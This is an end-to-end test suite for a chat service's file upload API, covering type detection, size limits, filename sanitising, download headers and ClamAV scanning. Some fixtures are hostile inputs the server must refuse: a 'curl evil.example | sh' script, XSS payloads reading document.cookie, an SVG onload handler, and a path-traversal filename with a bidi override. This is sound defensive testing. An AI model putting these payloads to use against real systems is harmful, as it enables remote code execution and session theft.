import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createConnection, createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { getModelToken } from '@nestjs/mongoose';
import type { Model } from 'mongoose';
import request from 'supertest';

import type { ConversationView, MessageView } from '../src/contracts/messages';
import { Media } from '../src/media/schemas/media.schema';
import { bearer, befriendAndOpenChat, newClientId, type SignedUp, signUp } from './support/builders';
import { type Clamd, EICAR, startClamd } from './support/clamd';
import * as files from './support/file-fixtures';
import { captureErrorLogs } from './support/log-capture';
import { windowsProgram } from './support/media-fixtures';
import { startTestApp, type TestApp } from './support/test-app';
import { binary } from './support/zip';

const OPEN_XML = 'application/vnd.openxmlformats-officedocument';

describe('Documents and files (e2e)', () => {
  let t: TestApp;
  let a: SignedUp, b: SignedUp, c: SignedUp;
  let conversationId: string;
  const dataDir = mkdtempSync(join(tmpdir(), 'chat-files-'));
  const api = () => request(t.baseUrl);
  const upload = (who: SignedUp, data: Buffer, filename: string, contentType = 'application/octet-stream') =>
    api().post('/api/media').set(bearer(who.accessToken)).attach('file', data, { filename, contentType });
  const sendMedia = (who: SignedUp, mediaId: string) =>
    api()
      .post(`/api/conversations/${conversationId}/messages`)
      .set(bearer(who.accessToken))
      .send({ clientId: newClientId(), mediaId });

  beforeAll(async () => {
    t = await startTestApp({ DATA_DIR: dataDir, MEDIA_MAX_FILE_MB: '1' });
  });
  afterAll(async () => {
    await t.close();
    rmSync(dataDir, { recursive: true, force: true });
  });
  beforeEach(async () => {
    [a, b, c] = [await signUp(t.baseUrl), await signUp(t.baseUrl), await signUp(t.baseUrl)];
    conversationId = await befriendAndOpenChat(t.baseUrl, a, b);
  });

  const accepted = [
    ['report.pdf', files.pdf, 'file', 'application/pdf'],
    ['letter.docx', () => files.officeOpenXml('word'), 'file', `${OPEN_XML}.wordprocessingml.document`],
    ['budget.xlsx', () => files.officeOpenXml('xl'), 'file', `${OPEN_XML}.spreadsheetml.sheet`],
    ['slides.pptx', () => files.officeOpenXml('ppt'), 'file', `${OPEN_XML}.presentationml.presentation`],
    ['old.doc', () => files.compoundFile('WordDocument'), 'file', 'application/msword'],
    ['old.xls', () => files.compoundFile('Workbook'), 'file', 'application/vnd.ms-excel'],
    ['old.ppt', () => files.compoundFile('PowerPoint Document'), 'file', 'application/vnd.ms-powerpoint'],
    ['notes.txt', () => Buffer.from('Grüße aus Köln\nline two\n'), 'file', 'text/plain'],
    ['photos.zip', () => files.zip({ 'a.txt': 'hello' }), 'file', 'application/zip'],
    ['song.mp3', files.mp3, 'audio', 'audio/mpeg'],
    ['voice.ogg', files.oggOpus, 'audio', 'audio/ogg'],
    ['voice.webm', () => files.webm('A_OPUS'), 'audio', 'audio/webm'],
    ['voice.m4a', () => files.isoMedia('M4A ', 'soun'), 'audio', 'audio/mp4'],
    ['voice.mp4', () => files.isoMedia('isom', 'soun'), 'audio', 'audio/mp4'],
    ['clip.aac', files.aac, 'audio', 'audio/aac'],
    ['memo.wav', files.wav, 'audio', 'audio/wav'],
    ['clip.webm', () => files.webm('V_VP8'), 'video', 'video/webm'],
  ] as const;
  it.each(accepted.map(([name, make, kind, mime]) => ({ name, make, kind, mime })))(
    'accepts $name as $kind $mime, sendable in a message that carries kind and name',
    async ({ name, make, kind, mime }) => {
      const uploaded = await upload(a, await make(), name).expect(201);
      expect(uploaded.body).toMatchObject({ kind, mime, name });
      const message = await sendMedia(a, uploaded.body.id).expect(201);
      expect(message.body).toMatchObject({ kind, media: { id: uploaded.body.id, kind, mime, name } });
      const history = await api()
        .get(`/api/conversations/${conversationId}/messages`)
        .set(bearer(b.accessToken))
        .expect(200);
      expect(history.body.items[0]).toMatchObject({ kind, media: { kind, name } });
    },
  );

  it.each(
    [
      ['a Windows program', windowsProgram],
      ['HTML', () => Buffer.from('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>')],
      ['HTML after text', () => Buffer.from('Dear reader,\n<script>alert(1)</script>')],
      ['SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
      [
        'SVG with an XML declaration',
        () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
      ],
      ['a shell script', () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')],
      ['an installer (a compound file without an Office document)', () => files.compoundFile('SummaryInformation')],
      ['a Java archive', () => files.zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n' })],
      ['text that is not UTF-8', () => Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65])],
      ['text with NUL bytes', () => Buffer.from('abc\0def')],
    ].map(([what, make]) => ({ what, make: make as () => Buffer | Promise<Buffer> })),
  )('refuses $what named .pdf with 415, leaving nothing behind', async ({ make }) => {
    const before = storedFiles().length;
    const res = await upload(a, await make(), 'invoice.pdf', 'application/pdf').expect(415);
    expect(res.body).toMatchObject({ statusCode: 415, code: 'unsupported_media_type' });
    expect(storedFiles()).toHaveLength(before);
  });

  it('refuses a file over MEDIA_MAX_FILE_MB with 413 before the whole body is stored', async () => {
    const before = storedFiles().length;
    const big = Buffer.concat([files.pdf(), Buffer.alloc(8 * 1024 * 1024, 0x20)]);
    const res = await upload(a, big, 'huge.pdf').expect(413);
    expect(res.body).toMatchObject({ statusCode: 413, code: 'file_too_large' });
    expect(readdirSync(join(dataDir, 'media', 'tmp'))).toEqual([]);
    expect(storedFiles()).toHaveLength(before);
  });

  it("names the latest document in the chat list as it did live, until its sender's account is erased", async () => {
    const preview = async (who: SignedUp) =>
      (
        (await api().get('/api/conversations').set(bearer(who.accessToken)).expect(200)).body
          .items as ConversationView[]
      ).find((conversation) => conversation.id === conversationId)!.lastMessage!;
    const pdf = await upload(a, files.pdf(), 'Quarterly report.pdf').expect(201);
    const live = (await sendMedia(a, pdf.body.id).expect(201)).body as MessageView;
    expect(live.media).toMatchObject({ kind: 'file', name: 'Quarterly report.pdf' });
    expect(await preview(b)).toEqual(live);

    const voice = await upload(a, files.oggOpus(), 'voice.ogg').expect(201);
    const recorded = (await sendMedia(a, voice.body.id).expect(201)).body as MessageView;
    expect((await preview(b)).media).toEqual(recorded.media);

    await api().delete('/api/users/me').set(bearer(a.accessToken)).send({ password: a.input.password }).expect(204);
    const erased = await preview(b);
    expect(erased).toMatchObject({ id: recorded.id, kind: 'audio' });
    expect(erased.media).toBeUndefined();
  });

  it('serves documents and audio as downloads: attachment with a safe name, nosniff, participants only', async () => {
    const name = 'Bericht «Q3» für Jürgen.txt';
    const uploaded = await upload(a, Buffer.from('hello'), `C:\\Users\\a\\${name}`).expect(201);
    expect(uploaded.body.name).toBe(name);
    await sendMedia(a, uploaded.body.id).expect(201);
    const res = await api().get(uploaded.body.url).set(bearer(b.accessToken)).buffer(true).parse(binary).expect(200);
    expect(res.body.toString()).toBe('hello');
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Bericht _Q3_ fur Jurgen.txt"; filename*=UTF-8''Bericht%20%C2%ABQ3%C2%BB%20f%C3%BCr%20J%C3%BCrgen.txt`,
    );
    await api().get(uploaded.body.url).set(bearer(c.accessToken)).expect(403);

    const voice = await upload(a, files.webm('A_OPUS'), 'voice.webm').expect(201);
    await sendMedia(a, voice.body.id).expect(201);
    const audio = await api()
      .get(voice.body.url)
      .set(bearer(b.accessToken))
      .set('Range', 'bytes=0-3')
      .buffer(true)
      .parse(binary)
      .expect(206);
    expect(audio.headers['content-type']).toBe('audio/webm');
    expect(audio.headers['content-disposition']).toBe('attachment; filename=voice.webm');
  });

  it('keeps the name for display only: no path, no control or bidi characters, capped; the download ends in the real type', async () => {
    const sneaky = `../../etc/report\u202Egpj.exe`;
    const uploaded = await upload(a, files.pdf(), sneaky).expect(201);
    expect(uploaded.body.name).toBe('reportgpj.exe');
    await sendMedia(a, uploaded.body.id).expect(201);
    const res = await api().get(uploaded.body.url).set(bearer(b.accessToken)).expect(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename=reportgpj.exe.pdf');

    const long = await upload(a, files.pdf(), `${'x'.repeat(300)}.pdf`).expect(201);
    expect(long.body.name).toBe(`${'x'.repeat(116)}.pdf`);
  });

  function storedFiles(): string[] {
    const dir = join(dataDir, 'media');
    try {
      return readdirSync(dir).filter((name) => name !== 'tmp');
    } catch {
      return [];
    }
  }
});

describe('Virus scanning of uploads (e2e, the real clamd)', () => {
  let clamd: Clamd;
  let scanned: TestApp;
  let gate: ScanGate;
  let d: SignedUp, e: SignedUp;
  let conversationId: string;
  const scanDir = mkdtempSync(join(tmpdir(), 'chat-scan-'));
  const scanUpload = (data: Buffer, filename: string) =>
    request(scanned.baseUrl).post('/api/media').set(bearer(d.accessToken)).attach('file', data, { filename });

  beforeAll(async () => {
    clamd = await startClamd();
    gate = await startScanGate(join(scanDir, 'gate.sock'), clamd.socket);
    scanned = await startTestApp({ DATA_DIR: scanDir, CLAMAV_SOCKET: gate.socket });
  });
  afterAll(async () => {
    await scanned?.close();
    await gate?.close();
    await clamd?.stop();
    rmSync(scanDir, { recursive: true, force: true });
  });
  beforeEach(async () => {
    [d, e] = [await signUp(scanned.baseUrl), await signUp(scanned.baseUrl)];
    conversationId = await befriendAndOpenChat(scanned.baseUrl, d, e);
  });

  it('accepts a clean file once clamd has scanned it', async () => {
    const res = await scanUpload(files.pdf(), 'clean.pdf').expect(201);
    expect(res.body).toMatchObject({ kind: 'file', mime: 'application/pdf' });
    expect(gate.scans).toBeGreaterThan(0);
  });

  it('refuses the EICAR test virus with 422 virus_found and deletes it', async () => {
    const [records, stored] = [await mediaModel().countDocuments(), storedFiles().length];
    const res = await scanUpload(EICAR, 'eicar.txt').expect(422);
    expect(res.body).toMatchObject({ statusCode: 422, code: 'virus_found' });
    expect(storedFiles()).toHaveLength(stored);
    expect(await mediaModel().countDocuments()).toBe(records);
    expect(readdirSync(join(scanDir, 'media', 'tmp'))).toEqual([]);
  });

  it('holds an upload until clamd has answered: nothing is stored or recorded (so nothing to send or download) before', async () => {
    const [records, stored] = [await mediaModel().countDocuments(), storedFiles().length];
    gate.hold();
    let answered = false;
    const answer = scanUpload(files.pdf(), 'held.pdf').then((res) => {
      answered = true;
      return res;
    });
    await waitFor(async () => gate.waiting() || null);
    expect(answered).toBe(false);
    expect(await mediaModel().countDocuments()).toBe(records);
    expect(storedFiles()).toHaveLength(stored);
    gate.release();
    const res = await answer;
    expect(res.status).toBe(201);
    await request(scanned.baseUrl)
      .post(`/api/conversations/${conversationId}/messages`)
      .set(bearer(d.accessToken))
      .send({ clientId: newClientId(), mediaId: res.body.id })
      .expect(201);
    await request(scanned.baseUrl).get(res.body.url).set(bearer(e.accessToken)).expect(200);
  });

  it('fails closed with 503 and Retry-After when clamd cannot be reached, leaving nothing behind', async () => {
    const [records, stored] = [await mediaModel().countDocuments(), storedFiles().length];
    const errors = captureErrorLogs();
    await gate.close();
    try {
      const res = await scanUpload(files.pdf(), 'report.pdf').expect(503);
      expect(res.body).toMatchObject({ statusCode: 503, code: 'virus_scan_unavailable' });
      expect(Number(res.headers['retry-after'])).toBeGreaterThan(0);
      expect(await mediaModel().countDocuments()).toBe(records);
      expect(storedFiles()).toHaveLength(stored);
    } finally {
      errors.stop();
      gate = await startScanGate(gate.socket, clamd.socket);
    }
  });

  const mediaModel = () => scanned.app.get<Model<Media>>(getModelToken(Media.name));
  const storedFiles = () =>
    existsSync(join(scanDir, 'media')) ? readdirSync(join(scanDir, 'media')).filter((name) => name !== 'tmp') : [];
});

async function waitFor<T>(find: () => Promise<T | null>): Promise<T> {
  for (let i = 0; i < 500; i++) {
    const found = await find();
    if (found) return found;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('not found in time');
}

interface ScanGate {
  socket: string;
  /** Connections made to clamd through the gate. */
  scans: number;
  /** Holds clamd's answers back until release(). */
  hold(): void;
  /** Whether an answer is being held back. */
  waiting(): boolean;
  release(): void;
  close(): Promise<void>;
}

/** A unix socket in front of clamd that forwards everything, and can hold clamd's answers back. */
async function startScanGate(socket: string, clamdSocket: string): Promise<ScanGate> {
  let held: (() => void)[] | null = null;
  const connections = new Set<Socket>();
  const gate = {
    socket,
    scans: 0,
    hold: () => (held = []),
    waiting: () => (held?.length ?? 0) > 0,
    release: () => {
      const waiting = held ?? [];
      held = null;
      waiting.forEach((go) => go());
    },
    close: () => {
      connections.forEach((connection) => connection.destroy());
      return new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
  // Half-open: the scanner ends its side after the last chunk and still waits for the answer.
  const server: Server = createServer({ allowHalfOpen: true }, (client) => {
    gate.scans++;
    const upstream = createConnection(clamdSocket);
    connections.add(client).add(upstream);
    client.pipe(upstream);
    upstream.on('data', (data: Buffer) => (held ? held.push(() => client.write(data)) : client.write(data)));
    upstream.on('end', () => (held ? held.push(() => client.end()) : client.end()));
    for (const side of [client, upstream]) side.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(socket, resolve));
  return gate;
}
